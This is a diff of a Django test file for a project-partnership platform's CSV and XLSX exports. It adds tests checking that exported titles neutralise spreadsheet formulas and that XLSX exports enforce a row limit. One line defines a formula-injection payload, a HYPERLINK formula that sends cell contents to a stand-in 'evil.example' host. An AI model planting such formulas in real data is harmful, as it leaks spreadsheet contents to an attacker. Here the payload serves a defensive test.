@@ -367,17 +367,55 @@ def test_iati_export_command_and_api(world: dict, tmp_path: Path, client: Client
     assert b"XM-PONTE-TEST-1" in response.content
 
 
+def _download(client: Client, path: str) -> bytes:
+    response = client.get(path)
+    assert response.status_code == 200 and response.streaming
+    return b"".join(response.streaming_content)
+
+
 def test_csv_and_xlsx_exports(world: dict, client: Client) -> None:
     from openpyxl import load_workbook
 
     _budget(world["project"], "1000", "EUR")
     _budget(world["project"], "5000", "IDR")
-    rows = list(csv.reader(io.StringIO(client.get("/api/v1/projects.csv").content.decode())))
+    rows = list(csv.reader(io.StringIO(_download(client, "/api/v1/projects.csv").decode())))
     assert rows[0][0] == "identifier" and rows[1][0] == "XM-PONTE-TEST-1"
     assert rows[1][7] == "1000.00 EUR; 5000.00 IDR"
-    sheet = load_workbook(io.BytesIO(client.get("/api/v1/partnerships.xlsx").content)).active
+    sheet = load_workbook(io.BytesIO(_download(client, "/api/v1/partnerships.xlsx"))).active
     assert next(sheet.iter_rows(values_only=True))[1] == "title"
     assert client.get("/api/v1/projects/999").status_code == 404
+
+
+EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("kind", ["partnerships", "projects"])
+def test_partnership_and_project_exports_make_formulas_inert(
+    world: dict, client: Client, kind: str
+) -> None:
+    from openpyxl import load_workbook
+
+    if kind == "partnerships":
+        services.partnership_create(
+            actor=None, title=EVIL, kind="mou", local_governments=[world["recife"], world["lima"]]
+        )
+    else:
+        Project.objects.filter(pk=world["project"].pk).update(title=EVIL)
+    rows = list(csv.reader(io.StringIO(_download(client, f"/api/v1/{kind}.csv").decode())))
+    assert rows[1][1] == "'" + EVIL
+    sheet = load_workbook(io.BytesIO(_download(client, f"/api/v1/{kind}.xlsx"))).active
+    title = list(sheet.iter_rows(min_row=2))[0][1]
+    assert title.data_type != "f" and title.value == "'" + EVIL
+
+
+def test_xlsx_exports_are_refused_past_their_row_limit(
+    world: dict, client: Client, settings: Any
+) -> None:
+    settings.PONTE_EXPORT_XLSX_MAX_ROWS = 0
+    response = client.get("/api/v1/projects.xlsx")
+    assert response.status_code == 400
+    assert "at most 0 rows and this one would have 1" in response.json()["detail"]
+    assert client.get("/api/v1/projects.csv").status_code == 200  # CSV has no limit
 
 
 def test_network_figures_count_south_south_partnerships(world: dict) -> None:
@@ -511,5 +549,5 @@ def test_amounts_are_grouped_the_way_the_reader_writes_them(world: dict, client:
     indonesian = client.get(url, HTTP_ACCEPT_LANGUAGE="id").content.decode()
     assert "250.000.000,00 IDR" in indonesian
     # Exports stay machine-readable.
-    rows = list(csv.reader(io.StringIO(client.get("/api/v1/projects.csv").content.decode())))
+    rows = list(csv.reader(io.StringIO(_download(client, "/api/v1/projects.csv").decode())))
     assert "250000000.00 IDR" in rows[1][7]
